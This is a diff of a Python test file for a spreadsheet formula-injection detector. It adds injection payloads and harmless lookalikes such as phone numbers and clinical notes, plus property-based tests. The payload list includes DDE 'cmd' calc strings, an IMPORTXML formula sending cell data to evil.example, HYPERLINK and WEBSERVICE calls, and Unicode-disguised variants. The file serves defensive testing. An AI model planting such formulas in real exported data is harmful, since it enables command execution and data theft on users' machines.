@@ -35,6 +35,37 @@ HARMFUL = (
     "-2+3\n+cmd|'/C calc'!A0",
     '=IMPORTXML(CONCAT("http://evil.example?v=",A1),"//a")',
     "=DDE(1)",
+    "+A1",
+    "-A1",
+    "@A1",
+    "＋A1",
+    "－A1",
+    "= A1",
+    "+$B$2",
+    "-1+A1*2",
+    '-"x"&B2',
+    "+(A1:A9)",
+    "-A1 + 5 %",
+    "@SUM(A1)",
+    "＠SUM(A1)",
+    "=SUM （A1)",
+    "-HYPERLINK ('http://evil.example')",
+    "=cmd|'/C calc'!A0",
+    "\n=1+1",
+    "\u00a0=1+1",
+    "\u3000=1+1",
+    "\u200b=1+1",
+    "\ufeff=1+1",
+    "“=1+1",
+    "'=1+1'",
+    "`=1+1",
+    " \t'\" =1+1",
+    "x;=HYPERLINK(A1)",
+    "x\t=A1",
+    "x\r\n=A1",
+    "x; +cmd|'/C calc'!A0",
+    "a note\n@WEBSERVICE(A1)",
+    "== cmd|'/C calc'!A0",
 )
 HARMLESS = (
     "",
@@ -59,6 +90,28 @@ HARMLESS = (
     "−5",
     "@home (since 2020)",
     "- no pain | no fever",
+    "+49 (30) 123-456",
+    "+49-30-123456",
+    "+1 617 555 0123",
+    "+44/20/7946 0018",
+    "+81 3-1234-5678",
+    "-5 %",
+    "-1,234.50",
+    "-12.05.2024",
+    "+1+1",
+    "- A1 and A2 of the spine",
+    "-T2 and T3",
+    "- CT (chest)",
+    "-x",
+    "- call (555) 0123",
+    "== heading ==",
+    "a;b=c",
+    "x; -CO2",
+    "a list:\n- pain(s)\n- A1",
+    "BMI\n= 5 mg",
+    "x\n=> see note",
+    "'s-Hertogenbosch",
+    "(-) E. coli",
 )
 
 
@@ -78,6 +131,29 @@ def test_other_cells_are_let_be(cell: str) -> None:
 
 def test_a_name_of_a_column_is_a_cell_too() -> None:
     assert formulas_in(Table("t", pa.table({"=1+1": [1]}))) == {"=1+1": 1}
+
+
+@given(
+    beginning=st.text(" \t\r\n'\"\u00a0\u3000\u200b\ufeff", max_size=5),
+    sign=st.sampled_from("=+-@＝＋－＠"),
+    column=st.text("ABCXYZabc", min_size=1, max_size=3),
+    row=st.integers(1, 1_048_576),
+    absolute=st.tuples(st.sampled_from(("", "$")), st.sampled_from(("", "$"))),
+)
+def test_a_cell_of_the_sheet_is_found_however_it_is_led_in(
+    beginning: str, sign: str, column: str, row: int, absolute: tuple[str, str]
+) -> None:
+    cell = f"{beginning}{sign}{absolute[0]}{column}{absolute[1]}{row}"
+    assert formulas_in(
+        texts(cell, f"{cell}+1", f"{beginning}{sign}2*{cell[len(beginning) + 1 :]}")
+    ) == {"a": 3}
+
+
+@given(
+    numbers=st.lists(st.integers(0, 10**6), min_size=1, max_size=5), join=st.sampled_from(" -/.")
+)
+def test_telephone_numbers_are_no_formulas(numbers: list[int], join: str) -> None:
+    assert formulas_in(texts("+" + join.join(map(str, numbers)))) == {}
 
 
 @given(values=st.lists(st.integers() | st.floats(allow_nan=False, allow_infinity=False)))
